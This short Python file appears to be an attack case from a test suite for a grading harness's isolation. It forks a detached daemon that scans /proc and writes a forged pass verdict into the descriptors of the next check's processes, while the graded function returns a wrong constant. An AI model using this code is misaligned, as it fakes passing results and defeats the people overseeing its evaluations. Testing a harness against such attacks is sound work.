"""Leave a process that waits for the next check's process and writes into its descriptors.

attack: P01 answer for the next check
guard: every process is killed between checks
"""

import os
import struct
import time


def watch(mine):
    while True:
        for name in os.listdir("/proc"):
            if name.isdigit() and int(name) not in (1, mine, os.getpid()):
                for descriptor in range(3, 12):
                    try:
                        with open(f"/proc/{name}/fd/{descriptor}", "wb", buffering=0) as file:
                            file.write(struct.pack(">IB", 2, ord("V")) + b"{}")
                    except OSError:
                        continue
        time.sleep(0.001)


mine = os.getpid()
if os.fork() == 0:
    os.setsid()
    watch(mine)


def reverse_string(s):
    return "held"
